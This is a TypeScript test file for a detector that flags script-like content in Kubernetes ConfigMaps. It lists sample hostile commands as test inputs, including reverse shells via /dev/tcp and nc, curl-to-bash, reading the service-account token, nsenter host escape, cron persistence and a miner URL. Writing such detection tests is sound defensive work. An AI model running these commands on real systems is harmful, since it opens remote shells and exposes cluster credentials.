import { describe, expect, it } from 'vitest';

import { configMapScripts, scriptKinds } from './script-features.js';

describe('program-like content', () => {
  it.each([
    ['bash -c "bash -i >& /dev/tcp/192.0.2.9/4444 0>&1"', 'reverse-shell'],
    ['nc 192.0.2.9 4444 -e /bin/sh', 'reverse-shell'],
    ['curl -fsSL https://get.example.net/i.sh | bash', 'pipe-to-shell'],
    ['sh <(curl -s https://a.example/x)', 'substituted-shell'],
    ['eval "$(echo aGk= | base64 -d)"', 'decode'],
    ['python3 -c "import os"', 'interpreter'],
    ['wget -O /tmp/a http://192.0.2.1/a; chmod +x /tmp/a', 'make-executable'],
    ['cat /var/run/secrets/kubernetes.io/serviceaccount/token', 'credential-path'],
    ['nsenter -t 1 -m -u sh', 'host-escape'],
    ['echo "* * * * * x" | crontab -', 'persistence'],
    ['pool = stratum+tcp://x:3333', 'miner-protocol'],
  ])('is known in %s', (content, kind) => {
    expect(scriptKinds(content)).toContain(kind);
  });

  it.each([
    'level: debug\nurl: https://api.example.org/v1\n',
    'Please curl up with a book; the shell is on the beach.',
    '{"feature.chmod":"no","timeout":755}',
    "O'Brien said a < b and <3, then SELECT * FROM nothing",
    'server { listen 80; location / { proxy_pass http://backend:8080; } }',
    'プログラム 🚀 текст',
  ])('is not seen in %j', (content) => {
    expect(scriptKinds(content)).toEqual([]);
  });

  it('is looked for in the values of a ConfigMap and of its patches', () => {
    const script = '#!/bin/sh\nexec run\n';
    for (const body of [
      { data: { 'a.sh': script, b: 'plain' } },
      [{ op: 'add', path: '/data/a.sh', value: script }],
      [{ op: 'replace', path: '/data', value: { 'a.sh': script } }],
    ]) {
      expect(configMapScripts(body)).toEqual([
        { where: 'data', kinds: ['shebang'], digest: expect.any(String) as string },
      ]);
    }
    expect(configMapScripts({ data: 7 })).toEqual([]);
  });

  it('costs no more than linear time, whatever the text', () => {
    const texts = [
      'curl '.repeat(200_000),
      '|'.repeat(1_000_000),
      'sh -'.repeat(250_000),
      'nc -'.repeat(250_000),
      'A'.repeat(1_000_000),
      'eval '.repeat(200_000),
    ];
    const started = performance.now();
    for (const content of texts) scriptKinds(content);
    expect(performance.now() - started).toBeLessThan(500);
  });

  it('costs a bounded time however many texts a body has', () => {
    const data = Object.fromEntries(Array.from({ length: 256 }, (_, n) => [`k${n}`, 'curl '.repeat(3_200)]));
    const started = performance.now();
    configMapScripts({ data });
    expect(performance.now() - started).toBeLessThan(1_000);
  });
});
